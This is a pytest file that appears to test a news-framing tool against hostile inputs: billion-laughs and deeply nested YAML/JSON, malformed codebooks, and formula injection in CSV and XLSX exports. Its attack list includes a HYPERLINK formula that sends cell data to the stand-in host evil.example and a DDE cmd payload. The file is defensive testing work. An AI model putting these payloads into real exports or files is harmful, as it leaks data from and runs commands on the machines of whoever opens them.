"""Hostile inputs (issue 14): each case fails fast with a clear message or is skipped and
reported, never crashes, never loses a good neighbour, never attacks the reader of an export."""

from __future__ import annotations

import json
import resource
import time

import pytest

from framing.codebook import Codebook, CodebookError
from framing.safeio import UnsafeInputError, load_yaml, loads_json

_FRAMES = "frames:\n  - id: f\n    prototypes: [a sentence]\n  - id: g\n    prototypes: [another one]\n"


# ---------------------------------------------------------------------- YAML and codebooks
def _laughs(levels: int = 8) -> str:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    for i in range(1, levels + 1):
        lines.append(f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 10) + "]")
    return "id: lol\nbomb:\n  " + "\n  ".join(lines) + f"\n{_FRAMES}    label: *a{levels}\n"


def test_billion_laughs_codebook_fails_fast_with_little_memory(tmp_path):
    path = tmp_path / "lol.yaml"
    path.write_text(_laughs(), encoding="utf-8")
    assert path.stat().st_size < 700
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    start = time.perf_counter()
    with pytest.raises(CodebookError, match=r"lol\.yaml.*expands to more than"):
        Codebook.load(path)
    assert time.perf_counter() - start < 1.0
    grown_kib = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
    assert grown_kib < 50 * 1024


def test_recursive_alias_is_refused():
    with pytest.raises(UnsafeInputError, match="expands"):
        load_yaml("a: &a [*a]\n", source="r.yaml")


def test_aliases_within_budget_still_load():
    data = load_yaml("base: &b {x: 1}\nuse: [*b, *b, *b]\n", source="ok.yaml")
    assert data["use"][2] == {"x": 1}


def test_large_yaml_refused_before_parsing(tmp_path):
    with pytest.raises(UnsafeInputError, match=r"big\.yaml.*larger than"):
        load_yaml("x: " + "a" * 100, source="big.yaml", max_bytes=50)
    path = tmp_path / "big.yaml"
    path.write_text("id: big\n" + _FRAMES + "# " + "z" * (3 * 2**20) + "\n", encoding="utf-8")
    with pytest.raises(CodebookError, match="larger than the limit"):
        Codebook.load(path)


def test_deep_yaml_is_an_error_not_a_crash():
    with pytest.raises(UnsafeInputError, match="d.yaml"):
        load_yaml("[" * 20000 + "]" * 20000, source="d.yaml")


@pytest.mark.parametrize("extra, field", [
    ("axes: 5\n", "axes"),
    ("axes: [5]\n", "axes[0]"),
    ("name: [a, b]\n", "name"),
    ("description: {a: 1}\n", "description"),
    ("version: [1]\n", "version"),
    ("entities: [{name: X, aliases: [[1, 2]]}]\n", "aliases[0]"),
    ("entities: 7\n", "entities"),
])
def test_wrong_types_are_validation_errors_naming_the_field(extra, field):
    with pytest.raises(CodebookError) as info:
        Codebook.from_yaml("id: t\n" + _FRAMES + extra, source="t.yaml")
    assert "t.yaml" in str(info.value) and field in str(info.value)


def test_wrong_type_of_frame_label_names_the_frame():
    text = "id: t\nframes:\n  - id: f\n    label: {nested: map}\n    prototypes: [a]\n"
    with pytest.raises(CodebookError, match=r"frame 'f'\.label: expected text"):
        Codebook.from_yaml(text, source="t.yaml")


# ---------------------------------------------------------------------- JSON limits
def test_json_depth_limit():
    assert loads_json('{"a": [[1]]}') == {"a": [[1]]}
    with pytest.raises(UnsafeInputError, match="nested"):
        loads_json("[" * 100_000 + "]" * 100_000)
    with pytest.raises(UnsafeInputError, match="nested"):
        loads_json("[" * 80 + "]" * 80, max_depth=64)
    with pytest.raises(json.JSONDecodeError):
        loads_json("{nope")


# ---------------------------------------------------------------------- exports
_ATTACKS = ['=HYPERLINK("http://evil.example/?d="&A1,"x")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)",
            "\t=1", "\r=1"]


def _attack_tables():
    import pandas as pd

    n = len(_ATTACKS)
    scores = pd.DataFrame({"article_id": [f"a{i}" for i in range(n)], "outlet": _ATTACKS, "title": _ATTACKS[::-1],
                           "frame:x": [-0.5 + i for i in range(n)], "label": ["-0.25"] * n})
    events = pd.DataFrame({"event_id": ["e1"], "event_label": ["=1+2"], "=name": ["@x"]})
    return {"scores": scores, "events": events}


def test_csv_cells_neutralised_by_default_and_raw_on_request(tmp_path):
    import pandas as pd

    tables = _attack_tables()
    written = export_tables_(tables, tmp_path / "out", format="csv")
    manifest = json.loads(written[-1].read_text())
    assert manifest["cells"] == "neutralised"
    back = pd.read_csv(tmp_path / "out" / "scores.csv")
    for col in ("outlet", "title"):
        assert all(v.startswith("'") for v in back[col]), back[col].tolist()
    assert back["outlet"].tolist() == ["'" + a for a in _ATTACKS]
    assert back["frame:x"].tolist() == [-0.5 + i for i in range(len(_ATTACKS))]  # numbers stay numbers
    assert back["label"].tolist() == [-0.25] * len(_ATTACKS)  # text that is a number is left alone
    events = (tmp_path / "out" / "events.csv").read_text()
    assert "'=1+2" in events and "'=name" in events and "'@x" in events
    raw = export_tables_(tables, tmp_path / "raw", format="csv", neutralise_formulas=False)
    assert json.loads(raw[-1].read_text())["cells"] == "raw"
    assert pd.read_csv(tmp_path / "raw" / "scores.csv")["outlet"].tolist()[:5] == _ATTACKS[:5]


@pytest.mark.parametrize("neutralise", [True, False])
def test_xlsx_never_holds_a_formula(tmp_path, neutralise):
    import openpyxl

    path = export_tables_(_attack_tables(), tmp_path / "r.xlsx", neutralise_formulas=neutralise)[0]
    wb = openpyxl.load_workbook(path)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert ("'" + _ATTACKS[0] in texts) is neutralise
    assert (_ATTACKS[0] in texts) is (not neutralise)
    numbers = [c.value for c in wb["scores"]["D"][1:]]
    assert numbers[0] == -0.5 and isinstance(numbers[0], float)


def test_xlsx_export_survives_control_characters(tmp_path):
    import pandas as pd

    frame = pd.DataFrame({"title": ["nul\x00here", "esc\x1b[31m", "fine"]})
    path = export_tables_({"t": frame}, tmp_path / "c.xlsx")[0]
    back = pd.read_excel(path)
    assert back["title"].tolist()[2] == "fine" and "\x00" not in back["title"][0]


def test_latex_of_non_latin_text_says_it_needs_xelatex(tmp_path, caplog):
    import pandas as pd

    urdu = pd.DataFrame({"outlet": ["ڈان"], "title": ["پاکستان میں خبریں"]})
    with caplog.at_level("WARNING", logger="framing.export"):
        path = export_tables_({"t": urdu}, tmp_path / "u.tex")[0]
    assert "xelatex" in path.read_text(encoding="utf-8").splitlines()[0]
    assert any("xelatex" in r.getMessage() for r in caplog.records)
    latin = export_tables_({"t": pd.DataFrame({"title": ["Café déjà vu"]})}, tmp_path / "l.tex")[0]
    assert "xelatex" not in latin.read_text(encoding="utf-8")


def test_neutralise_sql_matches_the_python_rule():
    import duckdb

    from framing.export import neutralise_formula, neutralise_sql, neutralised_query

    values = _ATTACKS + ["-0.5", "+3", "plain", "", "-", "1e5", "=", "x=1"]
    con = duckdb.connect()
    try:
        got = [con.execute("SELECT " + neutralise_sql("$v::VARCHAR"), {"v": v}).fetchall()[0][0] for v in values]
        assert got == [neutralise_formula(v) for v in values]
        rows = con.execute(neutralised_query(con, "SELECT '=1' AS \"=t\", -5 AS n")).fetchall()
        cols = [d[0] for d in con.description]
        assert rows == [("'=1", -5)] and cols == ["'=t", "n"]
    finally:
        con.close()


def export_tables_(*args, **kwargs):
    from framing.export import export_tables

    return export_tables(*args, **kwargs)
